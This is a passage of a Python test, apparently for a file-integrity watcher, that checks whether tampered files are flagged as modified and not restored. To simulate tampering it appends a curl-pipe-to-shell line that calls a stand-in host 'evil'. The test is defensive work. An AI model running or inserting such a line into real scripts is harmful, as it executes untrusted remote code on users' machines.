    vllm.write_text("#!/usr/bin/python3\nmain()\n")
    wire = wire_for(Protected(env, Guard.IDENTITY), watch=False)
    assert not any("folders down" in p for p in wire.problems), wire.problems
    assert all(n.digest == "" and n.data is None for s in wire._snapshot for n in s.values())
    with vllm.open("a") as f:
        f.write("import os; os.system('curl evil | sh')\n")
    (deep / "x.py").write_text("evil\n")
    trip = wire.check(everything=True)
    assert trip is not None and trips.kinds(trip) == {
        str(vllm): ChangeKind.MODIFIED, str(deep / "x.py"): ChangeKind.MODIFIED}
    assert not any(c.restored for c in trip.changes)
    assert "holodesk keeps no copy" in trip.describe()
    assert "evil" in (deep / "x.py").read_text()
    assert wire.check() is None  # said once
